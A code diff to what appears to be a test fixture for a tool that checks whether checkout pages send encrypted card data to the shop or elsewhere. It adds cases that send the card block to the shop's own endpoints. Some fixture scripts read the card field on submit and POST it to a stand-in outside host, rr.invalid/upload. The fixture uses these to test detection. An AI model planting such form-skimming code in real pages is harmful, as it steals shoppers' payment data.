@@ -66,15 +66,18 @@ const readsEmptied = `document.querySelector('#go').onclick = function () {
   fetch('/sent/none', { method: 'POST', body: 'has=' + Boolean(number) });
 };`;
 
-/** Sends the block to another server, and nothing to the shop's. */
-const sendsElsewhere = (before = ''): Parts => ({
+const sendsBlock = (statements: string): Parts => ({
   script: `document.forms[0].addEventListener('submit', function (event) {
   event.preventDefault();
   var body = JSON.stringify([this.elements.encrypted_card.value]);
-  ${before}
-  fetch('https://rr.invalid/upload', { method: 'POST', body: body }).catch(Object);
+  ${statements}
 });`,
 });
+
+/** Sends the block to another server, and nothing to the shop's. */
+const sendsElsewhere = (before = ''): Parts =>
+  sendsBlock(`${before}
+  fetch('https://rr.invalid/upload', { method: 'POST', body: body }).catch(Object);`);
 const toOthers = {
   kind: 'block to others',
   text: 'The encrypted card left by fetch to rr.invalid/upload, from SHOP:5.',
@@ -129,6 +132,21 @@ const PAGES: Record<string, [parts: Parts, expected: Expected]> = {
       check: CHECK.replace('<script', '<script data-payment-host="pay.example rr.invalid"'),
     },
     { press: 'the block left by fetch to rr.invalid/upload.' },
+  ],
+  'none: the shop gets the block by XMLHttpRequest': [
+    sendsBlock(`var request = new XMLHttpRequest();
+  request.open('POST', '/sent/none');
+  request.send(body);`),
+    { press: 'the block left by XMLHttpRequest to /sent/none.' },
+  ],
+  'none: the shop gets the block by sendBeacon': [
+    sendsBlock(`navigator.sendBeacon('/sent/none', body);`),
+    { press: 'the block left by sendBeacon to /sent/none.' },
+  ],
+  'none: the shop gets the block by a WebSocket': [
+    sendsBlock(`var socket = new WebSocket(location.origin.replace('http', 'ws') + '/pay');
+  try { socket.send(body); } catch (error) {} // it is not open yet`),
+    { press: 'the block left by WebSocket to' },
   ],
   'block to others: a recorder uploads it, its payload first': [
     {
@@ -261,15 +279,20 @@ function read() {
     },
     { press: 'the card was encrypted, and the page sent nothing.' },
   ],
-  'none: a script follows what is typed, and hears of the emptying': [
-    {
-      script: `${NUMBER_FIELD}.addEventListener('change', function () {
+  ...Object.fromEntries(
+    ['input', 'change'].map((type): [string, [Parts, Expected]] => [
+      `none: a script follows what is typed by ${type}, and hears of the emptying`,
+      [
+        {
+          script: `${NUMBER_FIELD}.addEventListener('${type}', function () {
   document.title = this.value;
 });`,
-      button: BUTTON,
-    },
-    { press: 'the card was encrypted, and the page sent nothing.' },
-  ],
+          button: BUTTON,
+        },
+        { press: 'the card was encrypted, and the page sent nothing.' },
+      ],
+    ]),
+  ),
   'emptied fields: two lines read an empty value': [
     {
       script: `document.querySelector('#go').onclick = function () {
